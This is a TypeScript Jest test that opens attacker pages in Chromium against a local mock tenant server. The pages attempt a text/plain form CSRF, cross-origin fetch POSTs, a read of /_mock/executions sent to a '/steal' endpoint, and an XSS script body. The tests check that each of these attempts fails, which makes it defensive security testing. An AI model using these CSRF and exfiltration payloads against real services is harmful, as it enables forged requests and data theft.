import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { TenantServer } from '../../src/node';
import { executePath, startTenant } from '../helpers/tenant';
import { closePage, launchChromium, type Browser } from './browser';

// Issue 19, item 1, in a real Chromium: an attacker's page on another local port (another origin,
// the same site) tries to add a fault rule to the tenant, and a rule's text/html answer tries to
// run script on the tenant's origin, where it could read /_mock.

jest.setTimeout(60_000);

let browser: Browser;
let tenant: TenantServer;
let tenantUrl: string;
let attacker: http.Server;
let attackerUrl: string;
/** What the attacker's server was sent (stolen data arrives here). */
const received: string[] = [];

const rule = JSON.stringify({
  match: { method: 'GET' },
  answer: { status: 200, contentType: 'text/html', body: '<script>alert(1)</script>' },
});

/** The attacker's pages, each marking its title `done` once its requests have gone out. */
function pages(): Record<string, string> {
  const target = `${tenantUrl}/_mock/faults`;
  // The rule as a script's string literal (its </script> escaped).
  const literal = JSON.stringify(rule).replace(/</g, '\\u003c');
  return {
    '/form': `<!doctype html><form method="post" action="${target}" enctype="text/plain"><input name='${rule.slice(0, -1)},"name":"' value='"}'></form>
      <script>document.forms[0].submit()</script>`,
    '/fetch': `<!doctype html><script>
      const sends = [
        fetch('${target}', { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: ${literal} }),
        fetch('${target}', { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, body: ${literal} }),
        fetch('${target}', { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: ${literal} }),
        fetch('${tenantUrl}/_mock/executions').then((res) => res.text()).then((text) => fetch('/steal', { method: 'POST', body: text })),
      ];
      Promise.allSettled(sends).then(() => { document.title = 'done'; });
    </script>`,
    '/frame': `<!doctype html><iframe src="${tenantUrl}${executePath}?extension=MyTestWebhook"></iframe>`,
  };
}

beforeAll(async () => {
  browser = await launchChromium();
  ({ tenant, url: tenantUrl } = await startTenant());
  attacker = http.createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (chunk: Buffer) => chunks.push(chunk));
    req.on('end', () => {
      received.push(`${req.method} ${req.url} ${Buffer.concat(chunks).toString('utf8')}`);
      const page = pages()[req.url ?? ''];
      res.writeHead(page ? 200 : 204, { 'Content-Type': 'text/html; charset=utf-8' });
      res.end(page ?? '');
    });
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await browser?.close();
  await tenant?.close();
  await new Promise((resolve) => attacker?.close(resolve));
});
beforeEach(() => {
  tenant.faults.clear();
  received.length = 0;
});

test('a form POST (enctype=text/plain) from another origin adds no rule', async () => {
  const page = await browser.newPage();
  try {
    const answered = page.waitForResponse((res) => res.url() === `${tenantUrl}/_mock/faults`);
    await page.goto(`${attackerUrl}/form`);
    expect((await answered).status()).toBe(403);
    expect(tenant.faults.size).toBe(0);
  } finally {
    await closePage(page);
  }
});

test('no-cors and CORS fetches from another origin add no rule and read nothing', async () => {
  const page = await browser.newPage();
  try {
    await page.goto(`${attackerUrl}/fetch`);
    await page.waitForFunction("document.title === 'done'");
    expect(tenant.faults.size).toBe(0);
    expect(received.filter((line) => line.startsWith('POST /steal'))).toEqual([]);
  } finally {
    await closePage(page);
  }
});

test('a rule answering text/html runs no script on the tenant origin, framed or opened', async () => {
  // The rule as the old chain forged it (here added by the test itself).
  tenant.faults.add({
    match: { method: 'GET' },
    answer: { status: 200, contentType: 'text/html', body: '<title>page</title><script>document.title = "ran"</script>' },
  });
  const executeUrl = `${tenantUrl}${executePath}?extension=MyTestWebhook`;
  const page = await browser.newPage();
  try {
    await page.goto(executeUrl);
    expect(await page.title()).toBe('page');
    await page.goto(`${attackerUrl}/frame`);
    const frame = page.frames().find((one) => one.url() === executeUrl);
    expect(frame).toBeDefined();
    expect(await frame?.title()).toBe('page');
  } finally {
    await closePage(page);
  }
});
